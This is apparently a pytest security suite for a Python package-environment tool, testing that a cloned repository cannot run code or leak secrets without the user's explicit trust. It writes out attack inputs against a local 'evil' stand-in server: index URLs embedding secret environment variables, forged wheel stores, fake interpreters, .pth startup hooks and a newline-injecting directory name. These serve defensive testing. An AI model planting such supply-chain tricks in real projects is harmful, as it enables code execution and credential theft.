"""What a clone may do to a user who owns its files, and did not make up what is in them.

Each test is an attack by a clone, with a marker in the place of harm: a file, a printed word.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from dataclasses import asdict
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from resolver.manifest import ViewId
from resolver.naming import project_key
from resolver.project import resolved
from resolver.python import lock
from resolver.python.uv.run import run_uv
from unionfs.formats.wheel.reader import open_wheel
from unionfs.publishing import resolve_job
from unionfs.store.local import Store
from unionfs.view.catalog import read_manifest

if TYPE_CHECKING:
    from collections.abc import Iterator

    from resolver.python.uv.run import Output
    from tests.mounted.conftest import Index, Site

pytestmark = pytest.mark.fuse

SAY = "import alpha; print(alpha.version)"
FALSE = b"version = 'false'\n"


def project(shop: Site, name: str, requirements: str = "alpha\n") -> Path:
    directory = shop.project(name)
    (directory / "requirements.txt").write_text(requirements)
    return directory


def false_store(index: Index, root: Path, *, under: str = "sources") -> None:
    """A store that says of the honest wheel `alpha` that it became something else."""
    honest = index.wheel("alpha")
    digest = hashlib.sha256(honest.read_bytes()).hexdigest()
    aside = honest.with_name("aside")
    honest.rename(aside)
    forged = index.wheel("alpha", files={"alpha.py": FALSE})
    store = Store(root)
    with open_wheel(
        forged, filename=forged.name, name="alpha", version="1.0", origin=f"sha256:{digest}",
        direct_url=None,
    ) as wheel:  # fmt: skip
        name = store.add(wheel.members(), wheel.meta)
    aside.rename(honest)
    for folder in (under, "sources"):
        (root / folder).mkdir(exist_ok=True)
        (root / folder / f"sha256-{digest}").symlink_to(f"../archives/{name}")


@pytest.fixture
def evil(shop: Site, index: Index) -> Path:
    """A clone with an honest lock and a false store."""
    directory = project(shop, "evil")
    false_store(index, directory / ".pkgview", under="imported")
    return directory


def test_a_clones_word_of_a_wheel_is_for_that_clone_only(shop: Site, evil: Path) -> None:
    honest = project(shop, "honest")
    # Not by a command for it either: its packages are derived again.
    said = shop.pkgview("up", "--python", shop.python, cwd=evil).stderr
    assert f"{evil}/.pkgview is passed over: it came with the project" in said
    assert f"`pkgview trust {evil}`" in said
    assert shop.run(evil / ".venv/bin/python", "-c", SAY, cwd=evil).stdout == "1.0\n"
    shutil.rmtree(shop.places.store)
    shop.pkgview("trust", cwd=evil)
    shop.up(evil)
    assert shop.run(evil / ".venv/bin/python", "-c", SAY, cwd=evil).stdout == "false\n"
    shop.up(honest)
    assert shop.run(honest / ".venv/bin/python", "-c", SAY, cwd=honest).stdout == "1.0\n"
    # Nor by what is remembered of the same bytes: another clone of it, without its store.
    again = project(shop, "again")
    for directory in (evil, again):
        (directory / "uv.lock").unlink(missing_ok=True)
    shop.pkgview("lock", "--python", shop.python, cwd=evil)
    shop.up(evil)
    shutil.copy(evil / "pylock.toml", again)
    shop.pkgview("up", cwd=evil)
    shop.pkgview("up", cwd=again)
    assert shop.run(again / ".venv/bin/python", "-c", SAY, cwd=again).stdout == "1.0\n"


@pytest.mark.parametrize("way", ["up", "program"])
def test_another_clone_in_its_place_has_said_nothing(shop: Site, evil: Path, way: str) -> None:
    shop.pkgview("lock", "--python", shop.python, cwd=evil)
    shop.pkgview("trust", cwd=evil)
    for _ in range(2):
        shop.pkgview("up", "--no-link", cwd=evil)
    python = shop.places.mount / "bin/python"
    assert shop.run(python, "-c", SAY, cwd=evil).stdout == "false\n"
    (evil / ".pkgview").rename(shop.home / "aside")
    honest = shop.home / "honest"
    shutil.copytree(evil, honest)
    shutil.rmtree(evil)
    honest.rename(evil)
    (evil / "test.py").write_text(SAY)
    if way == "up":
        shop.pkgview("up", "--no-link", cwd=evil)
    assert shop.run(python, "test.py", cwd=evil).stdout == "1.0\n"


def test_a_clone_that_is_only_looked_at_brings_nothing(shop: Site, evil: Path) -> None:
    shop.pkgview("mount", cwd=shop.home)
    script = evil / "test.py"
    script.write_text(SAY)
    python = shop.places.mount / "bin/python"
    assert shop.run(python, script, cwd=shop.home).stdout == "1.0\n"
    honest = project(shop, "honest")
    shop.up(honest)
    assert shop.run(honest / ".venv/bin/python", "-c", SAY, cwd=honest).stdout == "1.0\n"


def test_what_earlier_versions_left_is_proved_or_dropped(shop: Site, index: Index) -> None:
    """A record that a project's word made, and a view of another project that was made by it."""
    index.wheel("alpha")
    honest = project(shop, "honest")
    first = shop.up(honest)
    store = Store(shop.places.store)
    store.derived.rename(store.root / "sources")
    (record,) = (shop.places.state / "projects").glob("honest-*.json")
    made = json.loads(record.read_text())
    for view in made["views"]:
        del view["format"]
    record.write_text(json.dumps(made))
    said = shop.pkgview("store", "verify", "--json", cwd=shop.home, code=1)
    unproved = json.loads(said.stdout)["unproved"]
    assert unproved["records"] > 0
    assert unproved["projects"] == [{"project": str(honest), "repair": None}]
    said = shop.pkgview("store", "verify", cwd=shop.home, code=1)
    assert "recorded without saying where they had it from" in said.stderr
    asked = len(index.asked)
    said = shop.pkgview("store", "verify", "--repair", cwd=shop.home)
    assert str(honest) in said.stderr
    assert [path for path in index.asked[asked:] if path.endswith(".whl")]
    assert "every archive" in shop.pkgview("store", "verify", cwd=shop.home).stdout
    assert shop.up(honest)["view"] == first["view"]


def test_a_view_of_an_earlier_version_is_made_anew_as_a_program_starts(
    shop: Site, index: Index
) -> None:
    index.wheel("alpha")
    honest = project(shop, "honest")
    shop.up(honest)
    (honest / "test.py").write_text(SAY)
    (record,) = (shop.places.state / "projects").glob("honest-*.json")
    record.write_text(record.read_text().replace('"format": 1', '"format": 0'))
    shutil.rmtree(Store(shop.places.store).derived)
    asked = len(index.asked)
    python = shop.places.mount / "bin/python"
    assert shop.run(python, "test.py", cwd=honest).stdout == "1.0\n"
    assert [path for path in index.asked[asked:] if path.endswith(".whl")]


# What a lookup runs


def program(path: Path, marker: Path) -> None:
    """Something that looks like a Python, and leaves a trace."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'#!/bin/sh\ntouch {marker}\nexec {sys.executable} "$@"\n')
    path.chmod(0o755)


def pth(directory: Path, marker: Path) -> None:
    """An environment whose Python reads its standard library from the clone, by `home`."""
    (directory / "bin").mkdir(parents=True)
    (directory / "bin/python3").symlink_to("/usr/bin/python3.11")
    library = directory / "base/lib/python3.11"
    library.mkdir(parents=True)
    for name in ("encodings", "os.py"):
        (library / name).mkdir() if "." not in name else None
    (library / "os.py").write_text(f"open({str(marker)!r}, 'w')\n")
    (library / "encodings/__init__.py").write_text(f"import posix; posix.mkdir({str(marker)!r})\n")
    (directory / "pyvenv.cfg").write_text(f"home = {directory}/base/bin\n")


@pytest.mark.parametrize(
    "way", ["setting", "pin", "absolute", "beside", "environment", "name", "PATH"]
)
def test_a_lookup_runs_no_program_that_a_clone_names(
    shop: Site, index: Index, way: str, tmp_path: Path
) -> None:
    index.wheel("alpha")
    (shop.home / "clones/mono").mkdir(parents=True)
    clone, marker = shop.project("clones/mono/app"), tmp_path / "ran"
    (clone / "requirements.txt").write_text("alpha\n")
    program(clone / "bin/python3", marker)
    environ = {}
    match way:
        case "setting":
            (clone / "pyproject.toml").write_text('[tool.pkgview]\npython = "bin/python3"\n')
        case "pin":
            (clone / ".python-version").write_text("./bin/python3\n")
        case "absolute":
            other = tmp_path / "download/python3"
            program(other, marker)
            (clone / ".python-version").write_text(f"{other}\n")
        case "beside":  # which lies below a directory of PATH, as other clones below /opt
            (clone / ".python-version").write_text("../python3\n")
            program(clone.parent / "python3", marker)
            environ = {"PATH": f"{clone.parents[1]}:{shop.environ['PATH']}"}
        case "environment":
            pth(clone / "env", marker)
            (clone / ".python-version").write_text("./env\n")
        case "name":
            program(shop.home / "tools/halt", marker)
            (clone / ".python-version").write_text("halt\n")
            environ = {"PATH": f"{shop.home}/tools:{shop.environ['PATH']}"}
        case _:
            environ = {"PATH": f"{clone}/bin:{shop.environ['PATH']}"}
    shop.pkgview("mount", cwd=shop.home, environ=environ)
    script = clone / "test.py"
    script.write_text("print('on')\n")
    python = shop.places.mount / "bin/python"
    # A shell that looks, with and without a yes to all else; and a script.
    shop.run("sh", "-c", f"ls {shop.places.mount}/bin/; {python} -c pass", cwd=clone)
    assert shop.run(python, script, cwd=clone).stdout == "on\n"
    assert not marker.exists()
    if way in {"setting", "pin", "absolute", "beside"}:
        shop.pkgview("trust", cwd=clone)
        shop.run("sh", "-c", f"ls {shop.places.mount}/bin/", cwd=clone)
        assert marker.exists()


def test_what_cannot_be_read_tells_nothing_of_the_daemons_environment(shop: Site) -> None:
    clone = project(shop, "clone", "-r ${SECRET}/more.txt\n")
    (clone / "test.py").write_text("print('on')\n")
    shop.pkgview("mount", cwd=shop.home, environ={"SECRET": "hidden-1"})
    ended = shop.run(shop.places.mount / "bin/python", "test.py", cwd=clone)
    assert "${SECRET}/more.txt" in ended.stderr
    assert "hidden" not in ended.stderr
    assert "hidden" not in shop.pkgview("ps", "--json", cwd=shop.home).stdout
    # The user's only index is another: packages of PyPI are none that anybody meant.
    another = project(shop, "another", "--extra-index-url https://pypi.org/simple\nalpha\n")
    (another / "test.py").write_text("print('on')\n")
    ended = shop.run(shop.places.mount / "bin/python", "test.py", cwd=another)
    assert ended.stdout == "on\n"
    assert "not allowed" in ended.stderr
    assert "use the index https://pypi.org/simple" in ended.stderr


def test_a_relative_path_of_the_users_is_not_one_in_a_clone(shop: Site, index: Index) -> None:
    index.wheel("alpha")
    clone = project(shop, "clone")
    (clone / "test.py").write_text("print('on')\n")
    with listening() as (evil, heard):
        (clone / "c.txt").write_text(f"alpha @ {evil}/alpha-1.0-py3-none-any.whl\n")
        shop.pkgview("mount", cwd=shop.home, environ={"UV_CONSTRAINT": "c.txt"})
        ended = shop.run(shop.places.mount / "bin/python", "test.py", cwd=clone)
        assert (ended.stdout, heard) == ("on\n", [])
    assert "UV_CONSTRAINT is c.txt in the environment of pkgview's daemon" in ended.stderr


# What standing in a clone does

STARTED = b"import os, sys; os.environ.get('MARK') and open(os.environ['MARK'], 'a').write('x')\n"


@pytest.fixture
def clone(shop: Site, index: Index) -> Path:
    """A clone whose only package runs code in every interpreter that has it, and has a command."""
    index.wheel(
        "alpha", files={"alpha.py": b"def main(): print('theirs')\n", "alpha.pth": STARTED},
        scripts=["ls = alpha:main"],
    )  # fmt: skip
    return project(shop, "clone")


def test_an_enabled_python_takes_nothing_from_where_it_stands(
    shop: Site, clone: Path, tmp_path: Path
) -> None:
    python = "/usr/bin/python3.11"
    if not os.access(python, os.X_OK):
        pytest.skip("there is no system Python 3.11")
    marker = {"MARK": str(tmp_path / "marker")}
    shop.pkgview("enable", "--python", python, cwd=shop.home)
    tool, test = shop.home / "tool.py", clone / "test.py"
    for script in (tool, test):
        script.write_text("print('on')\n")
    (clone / "link.py").symlink_to(tool)

    def ran(*command: str | Path) -> bool:
        (tmp_path / "marker").unlink(missing_ok=True)
        ended = shop.run(python, *command, cwd=clone, environ=marker)
        assert (ended.stdout, ended.stderr) == ("on\n", "")
        return (tmp_path / "marker").exists()

    plain = (["-c", "print('on')"], ["-m", "test"], ["-X", "utf8", "-c", "print('on')"])
    assert not any(ran(*command) for command in plain)
    assert not ran(tool)
    assert not ran(clone / "link.py")
    # Its own script gets what it lists: whoever starts it runs the clone's code.
    shop.run(python, test, cwd=shop.home)
    assert ran(test)
    assert not ran("-c", "print('on')")
    # After a yes the directory counts where Python itself imports from it, and for no tool.
    shop.pkgview("trust", cwd=clone)
    assert all(ran(*command) for command in plain)
    assert not ran(tool)


def test_a_command_that_is_typed_in_a_clone_is_not_the_clones(
    shop: Site, clone: Path, index: Index
) -> None:
    shop.pkgview("mount", cwd=shop.home)
    (clone / "test.py").write_text("print('on')\n")
    path = {"PATH": f"{shop.places.mount}/bin:{shop.environ['PATH']}"}
    asked = len(index.asked)
    assert shop.run("sh", "-c", "ls", cwd=clone, environ=path).stdout.split() == [
        "requirements.txt", "test.py",
    ]  # fmt: skip
    for typed in ("pip --version", "pip3 list", f"pip{sys.version_info.major} list"):
        told = shop.run("sh", "-c", typed, cwd=clone, environ=path)
        assert f"`pkgview trust {clone}`" in told.stderr
    assert len(index.asked) == asked
    assert shop.run("sh", "-c", "python test.py", cwd=clone, environ=path).stdout == "on\n"
    assert "test.py" in shop.run("sh", "-c", "ls", cwd=clone, environ=path).stdout
    shop.pkgview("trust", cwd=clone)
    assert shop.run("sh", "-c", "ls", cwd=clone, environ=path).stdout == "theirs\n"
    # Taken back, it is as before; so it is for what takes its place.
    shop.pkgview("trust", "--revoke", cwd=clone)
    assert "test.py" in shop.run("sh", "-c", "ls", cwd=clone, environ=path).stdout


def test_a_python_of_the_mount_is_told_what_to_say(shop: Site, clone: Path, tmp_path: Path) -> None:
    """Where Python itself does not import from the directory; and where PATH chose which Python."""
    shop.pkgview("mount", cwd=shop.home)
    environ = {
        "PATH": f"{shop.places.mount}/bin:{shop.environ['PATH']}",
        "MARK": str(tmp_path / "marker"),
    }
    python = str(shop.places.mount / "bin/python")
    for command in (
        [python, "-I", "-c"], [python, "-P", "-c"], ["/usr/bin/env", "python3", "-c"],
    ):  # fmt: skip
        ended = shop.run(*command, "print('on')", cwd=clone, environ=environ)
        assert ended.stdout == "on\n"
        assert ended.stderr.count(f"`pkgview trust {clone}`") == 1
        assert not (tmp_path / "marker").exists()
    # A directory's name adds no line to what is said of it, a remedy say.
    line = "\n  To allow it: `'x' "
    named = project(shop, f"named{line}", "-f links\nalpha\n")
    (named / "test.py").write_text("print('on')\n")
    (named / "uv.toml").write_text("a\x00")
    for command in (["-I", "-c", "print('on')"], ["test.py"]):
        said = shop.run(python, *command, cwd=named, environ=environ).stderr
        assert "To allow it: `'x'" in said
        assert line not in said
        # What is advised names that directory.
        word = next(one for one in said.splitlines() if "pkgview trust $'" in one)
        word = word.partition("pkgview trust ")[2].rpartition("`")[0]
        bash = shop.run("bash", "-c", f"printf %s {word}", cwd=clone)
        assert bash.stdout == str(named)
    (named / "requirements.txt").write_text("alpha\n./nowhere\n")
    said = shop.pkgview("up", cwd=named, code=1).stderr
    assert "/named\\n" in said
    assert line not in said
    shop.pkgview("trust", cwd=clone)
    shop.run("/usr/bin/env", "python3", "-c", "pass", cwd=clone, environ=environ)
    assert (tmp_path / "marker").exists()


# What a clone chooses itself


@pytest.mark.parametrize(
    ("files", "phrase"),
    [
        ({"requirements.txt": "--extra-index-url {evil}/simple\nalpha\n"}, "use the index {evil}"),
        ({"requirements.txt": "alpha @ {evil}/files/alpha-1.0-py3-none-any.whl\n"}, "{evil}"),
        ({"requirements.txt": "-f {evil}/links\nalpha\n"}, "use the option -f"),
        ({"requirements.txt": "./alpha-1.0-py3-none-any.whl\n"}, "address or path"),
        (
            {
                "requirements.txt": "alpha\n",
                "uv.toml": '[[index]]\nname = "corp"\nurl = "{evil}/simple"\n',
            },
            'what your environment has for "corp"',
        ),
        (
            {
                "pyproject.toml": '[project]\nname = "it"\nversion = "1"\n'
                'dependencies = ["alpha"]\n'
                '[[tool.uv.index]]\nname = "corp"\nurl = "{evil}/simple"\n'
                '[tool.uv.sources]\nalpha = {{ index = "corp" }}\n'
            },
            'what your environment has for "corp"',
        ),
        (
            {"requirements.txt": "alpha @ {evil}/${{SECRET}}/alpha-1.0-py3-none-any.whl\n"},
            "put the variable SECRET of your environment into addresses",
        ),
        (
            {
                "pylock.toml": 'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\n'
                'name = "alpha"\nversion = "1.0"\n[[packages.wheels]]\n'
                'url = "{evil}/files/alpha-1.0-py3-none-any.whl"\nhashes = {{ sha256 = "00" }}\n'
            },
            "fetch packages from {evil}",
        ),
    ],
)
def test_what_a_clone_chooses_waits_for_a_yes(
    shop: Site, index: Index, files: dict[str, str], phrase: str
) -> None:
    index.wheel("alpha")
    clone = shop.project("clone")
    secrets = {
        "SECRET": "hidden-1", "UV_INDEX_CORP_USERNAME": "hidden-2",
        "UV_INDEX_CORP_PASSWORD": "hidden-3", "PIP_SECRET": "hidden-4",
    }  # fmt: skip
    with listening() as (evil, heard):
        for name, text in files.items():
            (clone / name).write_text(text.format(evil=evil))
        (clone / "test.py").write_text("print('on')\n")
        shop.pkgview("mount", cwd=shop.home, environ=secrets)
        python = shop.places.mount / "bin/python"
        ended = shop.run(python, "test.py", cwd=clone)
        assert ended.stdout == "on\n"
        assert phrase.format(evil=evil) in ended.stderr
        assert f"`pkgview trust {clone}`" in ended.stderr
        assert heard == []
        said = shop.pkgview("trust", cwd=clone)
        assert phrase.format(evil=evil) in said.stderr
        shop.run(python, "test.py", cwd=clone)
        if "links" not in phrase and "address or path" not in phrase:
            assert heard, "a yes counts at once"
        # More of it is asked about anew, as what it is: a user of an address ends before its path.
        heard.clear()
        with (clone / "uv.toml").open("a") as file:
            file.write(f'\n[[index]]\nurl = "{evil}?@mine.example/another"\n')
        with (clone / next(iter(files))).open("a") as file:
            file.write("\n# edited\n")
        ended = shop.run(python, "test.py", cwd=clone)
        assert f"use the index {evil}?@mine.example/another" in ended.stderr
        assert heard == []


def test_what_was_agreed_to_counts_until_it_is_taken_back(shop: Site, index: Index) -> None:
    """Of a look the view, too, and of a command what it is made of; not of what runs already."""
    clone = project(shop, "clone", f"alpha @ {index.wheel('alpha').as_uri()}\n")
    (clone / "test.py").write_text(f"print(input(), flush=True)\ninput()\n{SAY}\n")
    shop.up(clone)
    command = [os.fspath(shop.places.mount / "bin/python"), "test.py"]
    begun = subprocess.Popen(
        command, cwd=clone, env=shop.environ, stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    assert begun.stdin is not None
    assert begun.stdout is not None
    begun.stdin.write(b"on\n")
    begun.stdin.flush()
    assert begun.stdout.readline() == b"on\n"
    (clone / "test.py").write_text(f"{SAY}\n")
    assert shop.run(*command, cwd=clone).stdout == "1.0\n"
    shop.pkgview("trust", "--revoke", cwd=clone)
    assert begun.communicate(b"\n")[0] == b"1.0\n"
    for _ in range(2):
        ended = shop.run(*command, cwd=clone, code=1)
        assert "take a package by the address or path" in ended.stderr
        assert f"`pkgview trust {clone}`" in ended.stderr
        assert ended.stderr.rstrip().endswith("No module named 'alpha'")
    shop.up(clone)
    assert shop.run(*command, cwd=clone).stdout == "1.0\n"
    # What was made without a choice is no matter of a yes.
    (clone / "requirements.txt").write_text("alpha\n")
    shop.up(clone)
    shop.pkgview("trust", "--revoke", cwd=clone)
    asked = len(index.asked)
    assert shop.run(*command, cwd=clone).stdout == "1.0\n"
    assert len(index.asked) == asked


def test_what_shows_a_project_is_no_yes(shop: Site, index: Index) -> None:
    """Nor does it follow settings that a look would ask about; and what is there needs none."""
    index.wheel("alpha")
    clone = project(shop, "clone")
    (clone / "test.py").write_text("print('on')\n")
    shop.pkgview("mount", cwd=shop.home)
    shop.run(shop.places.mount / "bin/python", "test.py", cwd=clone)
    (clone / "uv.toml").write_text('cache-dir = "made"\nrequired-version = "==0.0.1"\n')
    assert shop.pkgview("list", "--format=freeze", cwd=clone).stdout == "alpha==1.0\n"
    assert "alpha" in shop.pkgview("tree", cwd=clone).stdout
    assert not (clone / "made").exists()
    secrets = {"UV_INDEX_CORP_USERNAME": "hidden", "UV_INDEX_CORP_PASSWORD": "hidden"}
    with listening() as (evil, heard):
        (clone / "uv.toml").write_text(
            f'[[index]]\nname = "corp"\nurl = "{evil}/simple"\nauthenticate = "always"\n'
        )
        for command in (["outdated"], ["list", "--outdated"], ["tree", "--outdated"]):
            said = shop.pkgview(*command, cwd=clone, code=1, environ=secrets).stderr
            assert f"use the index {evil}/simple" in said
            assert f"`pkgview trust {clone}`" in said
        (archive,) = (shop.places.store / "archives").glob("alpha-*")
        archive.chmod(0o644)
        archive.write_bytes(archive.read_bytes()[:-9])
        ended = shop.pkgview("store", "verify", "--repair", cwd=shop.home, code=1, environ=secrets)
        assert f"use the index {evil}/simple" in ended.stderr + ended.stdout
        assert heard == []
        assert "clone" not in shop.pkgview("trust", "--list", cwd=shop.home).stdout


@pytest.mark.parametrize("back", [False, True])
def test_what_is_swapped_while_it_is_resolved_is_not_served(
    shop: Site, index: Index, monkeypatch: pytest.MonkeyPatch, *, back: bool
) -> None:
    """Between what was judged and what uv reads, for good, or to be put back again."""
    index.wheel("alpha")
    index.wheel("beta")
    clone = shop.project("clone")
    listed, swaps = clone / "requirements.txt", 0
    listed.write_text("alpha\n")

    async def swapped(*arguments: Any, **more: Any) -> Output:  # noqa: ANN401 - as it has them
        nonlocal swaps
        before, swaps = listed.stat(), swaps + 1
        if swaps > 1:
            return await run_uv(*arguments, **more)
        listed.write_text("beta\n" if back else f"--extra-index-url {evil}/simple\nbeta\n")
        done = await run_uv(*arguments, **more)
        if back:
            listed.write_text("alpha\n")
            os.utime(listed, ns=(before.st_atime_ns, before.st_mtime_ns))
        return done

    for name, value in shop.environ.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(lock, "run_uv", swapped)
    places = {name: os.fspath(path) for name, path in asdict(shop.places).items()}
    request = {
        "places": places, "root": str(clone), "executable": sys.executable,
        "extras": [], "groups": [], "asked": "", "beside": False,
    }  # fmt: skip
    with listening() as (evil, _), Path(os.devnull).open("wb") as output:
        answer = resolve_job.resolve(request, output.fileno())
    record = resolved.load(shop.places.state / "projects", str(clone))
    if back:
        manifest = read_manifest(shop.places, ViewId(answer["view"]))
        assert [layer.name for layer in manifest.layers if layer.name] == ["alpha"]
    else:
        assert "you have not allowed" in answer["what"]
        # Nor is it asked only once whose it is.
        clone.chmod(0o777)
        with Path(os.devnull).open("wb") as output:
            answer = resolve_job.resolve(request, output.fileno())
        assert "not yours alone" in answer["what"]
        assert not record.views


def test_what_takes_a_projects_place_is_not_followed(shop: Site, index: Index) -> None:
    """A shell that is bound, and `projects/`, have the directory that the yes was for."""
    index.wheel("alpha")
    index.wheel("theirs", scripts=["ls = theirs:hello"])
    place, python = project(shop, "place"), shop.places.mount / "bin/python"
    shop.pkgview("up", cwd=place)
    link = shop.places.mount / "projects" / project_key(str(place))
    view = link.readlink().name
    with subprocess.Popen(
        ["sh"], cwd=shop.home, env=shop.environ, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        text=True, bufsize=1,
    ) as shell:  # fmt: skip

        def current() -> str:
            assert shell.stdin
            assert shell.stdout
            shell.stdin.write(f"readlink {shop.places.mount}/current\n")
            return Path(shell.stdout.readline().strip()).name

        shop.pkgview("bind", "--pid", str(shell.pid), "--project", str(place), cwd=shop.home)
        assert current() == view
        shutil.rmtree(place)
        project(shop, "place", "theirs\n")
        (place / "test.py").write_text("import theirs, sys; print(sys.prefix)\n")
        theirs = Path(shop.run(python, "test.py", cwd=place).stdout.strip()).name
        deadline = time.monotonic() + 10
        while os.path.lexists(link):
            assert time.monotonic() < deadline
            time.sleep(0.05)
        assert current() not in {theirs, view}
        # The same files again are no reason to have what the first one had.
        (place / "requirements.txt").write_text("alpha\n")
        assert "Nothing to do" not in shop.pkgview("up", cwd=place).stderr
        assert current() == link.readlink().name == view
        assert "Nothing to do" in shop.pkgview("up", cwd=place).stderr


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A server that knows nothing and keeps what it is told."""
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.path}\n{self.headers}")
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", heard
        finally:
            server.shutdown()
            thread.join()
